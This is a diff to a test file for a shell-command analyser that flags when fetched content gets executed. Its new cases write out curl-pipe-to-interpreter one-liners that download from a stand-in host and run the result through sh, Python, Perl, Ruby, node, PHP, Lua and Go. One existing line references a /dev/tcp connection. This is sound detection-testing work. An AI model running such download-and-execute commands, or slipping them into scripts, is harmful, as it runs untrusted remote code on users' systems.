@@ -29,6 +29,34 @@ describe("what another command of the line fetches is what runs", () => {
     expect(found[0]?.techniques).toContain("T1105");
   });
 
+  it.each([
+    ["by the name that every program has for its input", "curl -s http://h.example/a | go run /dev/stdin"],
+    ["in a shell that a shell starts", "curl -s http://h.example/a | sh -c '. /proc/self/fd/0'"],
+    ["where Python runs what it reads", "curl -s http://h.example/a | python3 -c 'import os; exec(os.read(0, 9999))'"],
+    ["where Python opens its input", "curl -s http://h.example/a | python3 -c 'exec(open(0).read())'"],
+    ["where Perl runs a line of it", "curl -s http://h.example/a | perl -e 'eval <STDIN>'"],
+    ["where Ruby starts what it reads", "curl -s http://h.example/a | ruby -e 'system $<.read'"],
+    [
+      "where node is told piece by piece",
+      `curl -s http://h.example/a | node -e 'process.stdin.on("data", (d) => eval(d + ""))'`,
+    ],
+    [
+      "where PHP reads it by its own name for it",
+      `curl -s http://h.example/a | php -r 'eval(file_get_contents("php://stdin"));'`,
+    ],
+    ["where Lua loads it", `curl -s http://h.example/a | lua -e 'load(io.read("*a"))()'`],
+  ])("%s", (_, line) => {
+    expect(running(line).filter(({ what }) => what !== "inlineCode" && what !== "command")).toMatchObject([
+      { value: "http://h.example/a", techniques: expect.arrayContaining(["T1105"]) },
+    ]);
+  });
+
+  it("code that runs only what it names runs nothing that is fetched", () => {
+    const line =
+      "curl -s http://h.example/a | python3 -c 'import sys, os; print(sys.stdin.read()); os.system(\"date\")'";
+    expect(running(line).map(({ value }) => value)).not.toContain("http://h.example/a");
+  });
+
   it("nothing is brought where nothing is fetched", () => {
     expect(running("lua <(cat a.lua)")).toEqual([]);
     expect(running("ls | awk '{ print $2 }' | sh").map(({ value }) => value)).toEqual(["{ print $2 }"]);
@@ -57,4 +85,20 @@ it("what comes by a connection that the shell opens comes from its other end", (
   );
   const runs = invocations.flatMap(({ behaviours }) => behaviours.flatMap((one) => one.runs));
   expect(runs).toMatchObject([{ value: "/dev/tcp/192.0.2.7/80", resolved: "tcp://192.0.2.7:80/", remote: true }]);
+});
+
+describe("a file that is given as the input", () => {
+  it.each([
+    "python3 < /srv/a",
+    "perl - < /srv/a",
+    "cat /srv/a | ruby",
+    "bash /dev/stdin < /srv/a",
+    "sh -c '. /dev/fd/0' < /srv/a",
+    "cat /srv/a | sh -c 'node /proc/self/fd/0'",
+    "python3 -c 'exec(open(0).read())' < /srv/a",
+  ])("is what runs: %s", (line) => {
+    expect(running(line).filter(({ what }) => what !== "inlineCode" && what !== "command")).toMatchObject([
+      { value: "/srv/a" },
+    ]);
+  });
 });
